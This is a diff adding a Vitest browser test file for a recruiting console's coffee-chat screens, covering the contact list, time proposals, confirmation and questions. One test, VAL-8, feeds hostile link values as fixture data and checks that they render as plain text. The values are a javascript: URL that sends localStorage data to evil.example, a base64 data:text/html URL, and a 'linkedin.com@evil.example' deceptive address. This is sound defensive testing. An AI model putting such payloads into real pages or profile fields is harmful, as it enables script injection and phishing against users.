@@ -1,0 +1,114 @@
+import { expectAccessible } from '@coffeeattack/ui/testing/accessible'
+import { expect } from 'vitest'
+import { page } from 'vitest/browser'
+import { COFFEECHAT, coffeechat, coffeechats } from '../testing/samples/coffeechats.ts'
+import { sampleId } from '../testing/samples/ids.ts'
+import { test } from '../testing/screen-test.tsx'
+import { toast } from '../testing/toast.ts'
+
+/** Whom the company meets, when, and what was asked (TRUST-4, OFR-11, OFR-13). */
+
+const STARTS = ['2026-11-16T14:00:00+09:00', '2026-11-16T15:30:00+09:00']
+const times = STARTS.map((startsAt, place) => ({
+  id: sampleId(311 + place),
+  startsAt,
+  minutes: 30,
+  proposedBy: 'company' as const,
+  canConfirm: false,
+}))
+
+test('[OFR-13] the list leads to each, where the contact is', async ({ api, open }) => {
+  api.answers('GET /console/coffeechats', coffeechats)
+  api.answers('GET /console/coffeechats/:id', coffeechat())
+  await open('/coffeechats')
+  const list = page.getByRole('list', { name: '커피챗' })
+  await expect
+    .element(list.getByRole('link'))
+    .toMatchTextContent('노가온프론트엔드 개발자 · 6,300~6,800만 원')
+  await expectAccessible()
+  await list.getByRole('link').click()
+  await expect.element(page.getByRole('heading', { level: 1, name: '노가온' })).toBeVisible()
+  await expect
+    .element(page.getByRole('region', { name: '연락처와 자료' }))
+    .toMatchTextContent('휴대전화 번호010-3123-4567')
+  await expectAccessible()
+})
+
+test('[VAL-8] links open elsewhere, and what is no web address is text', async ({ api, open }) => {
+  const script = 'javascript:fetch("//evil.example/"+localStorage.length)'
+  const pretending = 'https://linkedin.com@evil.example/in/gaon'
+  const page64 = 'data:text/html;base64,PHNjcmlwdD4='
+  api.answers(
+    'GET /console/coffeechats/:id',
+    coffeechat({
+      disclosure: [
+        { kind: 'GITHUB', text: 'https://github.com/gaon', url: 'https://github.com/gaon' },
+        { kind: 'RESUME_LINK', text: script, url: script },
+        { kind: 'PORTFOLIO_LINK', text: page64, url: page64 },
+        { kind: 'LINKEDIN', text: pretending, url: pretending },
+      ],
+    }),
+  )
+  await open(`/coffeechats/${COFFEECHAT}`)
+  const shared = page.getByRole('region', { name: '연락처와 자료' })
+  for (const text of [script, page64, pretending]) await expect.element(shared.getByText(text)).toBeVisible()
+  await expect.element(shared.getByRole('link')).toHaveLength(1)
+  await expect.element(shared.getByRole('link')).toHaveAttribute('href', 'https://github.com/gaon')
+  await expect.element(shared.getByRole('link')).toHaveAttribute('rel', 'noopener noreferrer')
+})
+
+test('[TRUST-4] times are proposed, up to five of them', async ({ api, open }) => {
+  api.answers('GET /console/coffeechats/:id', coffeechat())
+  api.answers('POST /console/coffeechats/:id/times', coffeechat({ status: 'PROPOSED', timeItems: times }))
+  await open(`/coffeechats/${COFFEECHAT}`)
+  await page.getByRole('button', { name: '시간 제안하기' }).click()
+  await expect.element(page.getByRole('button', { name: '시간을 골라 주세요' })).toBeDisabled()
+  const start = (text: string) => page.getByRole('button', { name: text })
+  for (const text of ['10:00', '11:00', '13:00', '15:30', '14:00']) await start(text).click()
+  await expect.element(start('16:00')).toBeDisabled()
+  await expectAccessible()
+  for (const text of ['10:00', '11:00', '13:00']) await start(text).click()
+  await page.getByRole('button', { name: '시간 2개 제안하기' }).click()
+  await expect.element(toast('시간을 제안했어요')).toBeVisible()
+  await expect
+    .element(page.getByRole('list', { name: '우리가 제안한 시간' }).getByRole('listitem'))
+    .toHaveLength(2)
+  expect(api.sent('POST /console/coffeechats/:id/times').map(({ body }) => body.startItems)).toEqual([
+    STARTS.map((start) => new Date(start).toISOString()),
+  ])
+})
+
+test('[TRUST-4] one of the candidate’s times is taken', async ({ api, open }) => {
+  const [time] = times
+  const theirs = { ...time!, proposedBy: 'candidate' as const, canConfirm: true }
+  api.answers('GET /console/coffeechats/:id', coffeechat({ status: 'PROPOSED', timeItems: [theirs] }))
+  const { canConfirm: _canConfirm, ...confirmedTime } = theirs
+  api.answers(
+    'POST /console/coffeechats/:id/times/:timeId/confirm',
+    coffeechat({ status: 'CONFIRMED', confirmedTime }),
+  )
+  await open(`/coffeechats/${COFFEECHAT}`)
+  await page.getByRole('button', { name: '이 시간에 만나요' }).click()
+  await expect.element(toast('만날 시간을 정했어요')).toBeVisible()
+  await expect.element(page.getByRole('region', { name: '이때 만나요' })).toMatchTextContent('오후 2:00')
+  expect(
+    api.sent('POST /console/coffeechats/:id/times/:timeId/confirm').map(({ params }) => params.timeId),
+  ).toEqual([theirs.id])
+})
+
+test('[OFR-11] questions are asked, and what was answered stands with them', async ({ api, open }) => {
+  const question = '가장 아끼는 화면은 무엇인가요?'
+  api.answers('GET /console/coffeechats/:id', coffeechat())
+  const asked = coffeechat({ questions: [{ id: sampleId(321), question, answer: null }] })
+  api.answers('POST /console/coffeechats/:id/questions', asked)
+  await open(`/coffeechats/${COFFEECHAT}`)
+  await page.getByRole('button', { name: '질문하기' }).click()
+  await expect.element(page.getByRole('button', { name: '질문 보내기' })).toBeDisabled()
+  await page.getByRole('textbox', { name: '질문 1' }).fill(question)
+  await page.getByRole('button', { name: '질문 보내기' }).click()
+  await expect.element(toast('질문을 보냈어요')).toBeVisible()
+  await expect.element(page.getByText('아직 답하지 않았어요')).toBeVisible()
+  expect(api.sent('POST /console/coffeechats/:id/questions').map(({ body }) => body)).toEqual([
+    { items: [question] },
+  ])
+})
